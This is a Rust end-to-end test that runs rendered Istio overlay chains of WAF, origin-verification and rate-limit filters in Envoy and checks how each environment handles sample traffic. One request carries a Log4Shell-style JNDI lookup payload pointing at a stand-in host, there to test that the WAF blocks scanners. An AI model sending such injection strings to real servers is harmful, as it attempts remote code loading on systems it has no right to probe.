//! The chains of the overlays in `istio/` in real Envoy, with the sample traffic: `make manifests` renders them into
//! `target/manifests/chains.json`, and each runs here in its order, as separate modules and as `edge`.
//!
//! What is not the overlay's: the CDN's secret (nobody has the one whose digest is in the repository), the time that a busy
//! machine gives the rate-limit service, and the clusters behind Istio's names. There is no ext_authz adapter: its filter
//! fails open, as configured.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::ops::ControlFlow;

use backstop_e2e::bootstrap::{Bootstrap, FailurePolicy, Listener, WasmFilter};
use backstop_e2e::client::{Body, Client, Response};
use backstop_e2e::probe::Probe;
use backstop_e2e::{Envoy, RateLimitService, Redis, Upstream, modules};
use backstop_host::traffic::{self, Input, Item, ReadProgress};
use serde::Deserialize;
use serde_json::{Value, json};

const RLS_CLUSTER: &str = "outbound|8081||ratelimit.backstop.svc.cluster.local";
const SECRET: &str = "e2e-secret-0123456789abcdef";
const DIGEST: &str = "Jn3DrHK1GsPHNiyEokHBymvtK4TbuNLcJJs5a5Croh8=";
const SHAPES: [&str; 2] = ["separate", "edge"];

/// A filter of a rendered chain.
#[derive(Clone, Deserialize)]
struct Plugin {
    name: String,
    filter: String,
    config: Value,
    failure: String,
}

/// The rendered chains, by overlay and shape.
fn chains() -> BTreeMap<String, Vec<Plugin>> {
    let file = modules::root().join("target/manifests/chains.json");
    let text = fs::read_to_string(&file)
        .unwrap_or_else(|_| panic!("{} is not there: run `make manifests`", file.display()));
    serde_json::from_str(&text).unwrap()
}

/// The filter as the agent would configure it, with what is not the overlay's in its place.
fn filter(plugin: &Plugin) -> Value {
    let mut config = plugin.config.clone();
    for section in ["/originVerify/secrets", "/secrets"] {
        if let Some(secrets) = config.pointer_mut(section) {
            *secrets = json!([{"name": "e2e", "sha256": DIGEST}]);
        }
    }
    for section in ["/rateLimit/globalLimits", "/globalLimits"] {
        if let Some(global) = config.pointer_mut(section) {
            assert_eq!(global["cluster"], RLS_CLUSTER);
            global["timeout"] = json!("5s");
        }
    }
    assert_eq!(plugin.failure, "FAIL_RELOAD", "{}", plugin.name);
    let module = modules::filter(&plugin.filter);
    let mut filter = WasmFilter::new(&module, &config);
    filter.failure_policy = FailurePolicy::FailReload;
    let mut resource = filter.resource();
    let named = &mut resource["typed_config"]["config"];
    named["name"] = json!(format!("istio-ingress.{}", plugin.name));
    named["root_id"] = json!(plugin.filter);
    resource
}

/// The service's limits of `rate-limit-service/limits.yaml`, in a window that no test outlives.
fn limits() -> Value {
    let limit = |name: &str, max: u32, conditions: Value| {
        json!({"domain": "gateway", "name": name, "maxValue": max, "seconds": 86400,
               "conditions": conditions, "variables": ["remote_address"]})
    };
    json!([
        limit("all", 300, json!([])),
        limit("seat-hold", 30, json!(["action == 'seat-hold'"])),
    ])
}

/// One row of a verdict table: what became of the requests of one kind.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
struct Row {
    sent: usize,
    passed: usize,
    reported: usize,
    refused: BTreeMap<String, usize>,
}

type Table = BTreeMap<String, Row>;

impl Row {
    fn add(&mut self, response: &Response) {
        self.sent += 1;
        let details = response.field("x-e2e-details").unwrap_or_default();
        let verdict = response.field("x-e2e-verdict").unwrap_or_default();
        if details != "via_upstream" {
            let who = details.split(['{', ':']).next().unwrap_or_default();
            *self.refused.entry(who.to_owned()).or_default() += 1;
        } else if verdict.starts_with("detect:") {
            self.reported += 1;
        } else {
            self.passed += 1;
        }
    }

    fn refused_by(&self, who: &str) -> usize {
        self.refused.get(who).copied().unwrap_or_default()
    }
}

fn print(chain: &str, table: &Table) {
    println!("\n{chain}\n");
    println!("| requests | sent | passed | passed, reported by the WAF | refused |");
    println!("| --- | ---: | ---: | ---: | --- |");
    for (kind, row) in table {
        let refused: Vec<String> = row
            .refused
            .iter()
            .map(|(who, count)| format!("{count} {who}"))
            .collect();
        let (sent, passed, reported) = (row.sent, row.passed, row.reported);
        println!(
            "| {kind} | {sent} | {passed} | {reported} | {} |",
            refused.join(", ")
        );
    }
}

/// The samples with their kind, each from a client of its own and with the CDN's secret.
fn samples() -> Vec<(String, Probe)> {
    let folder = modules::root().join("samples");
    let inputs = ["visitor.jsonl", "visitor.har", "attacks.jsonl"]
        .map(|name| Input::File(folder.join(name)));
    let mut found = Vec::new();
    let mut sink = |item: Item| {
        let Item::Case(case) = item else {
            panic!("a broken sample: {item:?}")
        };
        let kind = case.category.clone().unwrap_or("visitors".to_owned());
        let number = found.len();
        let mut probe = Probe::from_traffic(&case);
        probe.name = format!("{number} {}", probe.name);
        from(
            &mut probe,
            &format!("198.18.{}.{}", number / 250, number % 250),
        );
        found.push((kind, probe));
        ControlFlow::Continue(())
    };
    traffic::read(&inputs, &ReadProgress::default(), &mut sink).unwrap();
    found
}

/// Makes it the request of a client that came through the CDN.
fn from(probe: &mut Probe, client: &str) {
    probe
        .fields
        .retain(|(name, _)| !["x-forwarded-for", "x-origin-verify"].contains(&name.as_str()));
    for (name, value) in [("x-forwarded-for", client), ("x-origin-verify", SECRET)] {
        probe
            .fields
            .push((name.to_owned(), value.as_bytes().to_vec()));
    }
}

fn request(method: &str, path: &str, client: &str) -> Probe {
    let mut probe = Probe {
        name: format!("{method} {path}"),
        method: method.to_owned(),
        path: path.as_bytes().to_vec(),
        authority: b"tickets.example".to_vec(),
        fields: Vec::new(),
        body: if method == "POST" {
            Body::Whole(b"{}".to_vec())
        } else {
            Body::None
        },
    };
    from(&mut probe, client);
    probe
}

fn exchange(client: &mut Client, probe: &Probe) -> Response {
    client.exchange(&probe.method, &probe.wire()).unwrap()
}

/// Sends everything through one chain.
fn run(envoy: &Envoy, listener: &str) -> Table {
    let mut table = Table::new();
    let mut add = |kind: &str, response: &Response| {
        table.entry(kind.to_owned()).or_default().add(response);
    };
    for (kind, probe) in samples() {
        // Envoy closes a connection when it answers before it has read the request: each its own.
        let mut client = envoy.connect(listener).unwrap();
        add(&kind, &exchange(&mut client, &probe));
    }
    let mut client = envoy.connect(listener).unwrap();
    let mut direct = request("GET", "/matches", "198.19.0.1");
    direct.fields.retain(|(name, _)| name != "x-origin-verify");
    add("not through the CDN", &exchange(&mut client, &direct));
    for _ in 0..40 {
        let signup = request("GET", "/signup", "198.19.0.2");
        add("40 sign-ups of one client", &exchange(&mut client, &signup));
    }
    for number in 0..40 {
        let path = format!("/seat/matches/{number}/seat-holds");
        let hold = request("POST", &path, "198.19.0.3");
        add("40 seat holds of one client", &exchange(&mut client, &hold));
    }
    // A scanner, then an honest request from the same address.
    let attack = request("GET", "/?q=$%7Bjndi:ldap://evil.example/a%7D", "198.19.0.4");
    exchange(&mut envoy.connect(listener).unwrap(), &attack);
    let listed = request("GET", "/matches", "198.19.0.4");
    let mut client = envoy.connect(listener).unwrap();
    add(
        "after an attack, the same client",
        &exchange(&mut client, &listed),
    );
    table
}

#[test]
fn the_overlays_chains_judge_the_sample_traffic() {
    let chains = chains();
    let overlays: BTreeSet<&str> = chains
        .keys()
        .filter_map(|name| name.split('+').next())
        .collect();
    assert_eq!(overlays, BTreeSet::from(["dev", "prod", "staging"]));
    let upstream = Upstream::start().unwrap();
    for overlay in overlays {
        let mut tables = Vec::new();
        for shape in SHAPES {
            // A Redis each: what one chain counted is not the other's.
            let redis = Redis::start().unwrap();
            let service = RateLimitService::start(&redis, &limits()).unwrap();
            let name = format!("{overlay}+{shape}");
            let listener = chains[&name]
                .iter()
                .map(filter)
                .fold(Listener::new("gateway"), Listener::filter);
            let bootstrap = Bootstrap::new(upstream.address())
                .grpc_service(RLS_CLUSTER, service.address())
                .listener(listener);
            let envoy = Envoy::start(&bootstrap, 2).unwrap();
            let table = run(&envoy, "gateway");
            let filters: Vec<&str> = chains[&name].iter().map(|p| p.filter.as_str()).collect();
            print(&format!("{overlay}: {}", filters.join(", ")), &table);
            tables.push(table);
        }
        let table = &tables[0];
        let kinds = |table: &Table| table.keys().cloned().collect::<Vec<_>>();
        assert_eq!(kinds(table), kinds(&tables[1]));
        for (kind, row) in table.iter().filter(|(kind, _)| !kind.contains("sign-ups")) {
            assert_eq!(
                row, &tables[1][kind],
                "{overlay}: {kind}, separate and edge"
            );
        }
        for table in &tables {
            judge(overlay, table);
        }
    }
}

/// What each environment promises.
fn judge(overlay: &str, table: &Table) {
    let attacks: Vec<&Row> = table
        .iter()
        .filter(|(kind, _)| {
            kind.chars()
                .all(|c| c.is_ascii_uppercase() || c == '_' || c.is_ascii_digit())
        })
        .map(|(_, row)| row)
        .collect();
    assert_eq!(attacks.len(), 10, "a kind for each category");
    let visitors = &table["visitors"];
    assert_eq!(visitors.passed, visitors.sent, "{overlay}: {visitors:?}");
    let (direct, listed, signups, holds) = (
        &table["not through the CDN"],
        &table["after an attack, the same client"],
        &table["40 sign-ups of one client"],
        &table["40 seat holds of one client"],
    );
    if overlay == "dev" {
        assert!(
            attacks.iter().all(|row| row.reported == row.sent),
            "{attacks:?}"
        );
        assert!(
            table.values().all(|row| row.refused.is_empty()),
            "{table:?}"
        );
    } else {
        let blocked = |row: &&Row| row.refused_by("backstop_waf") == row.sent;
        assert!(attacks.iter().all(blocked), "{overlay}: {attacks:?}");
        assert_eq!(direct.refused_by("backstop_origin_verify"), 1);
        assert_eq!(listed.passed, 0, "{listed:?}");
        assert!(signups.refused_by("backstop_rate_limit") > 0 && signups.passed >= 5);
        assert_eq!(
            (holds.passed, holds.refused_by("backstop_rate_limit")),
            (30, 10)
        );
    }
}
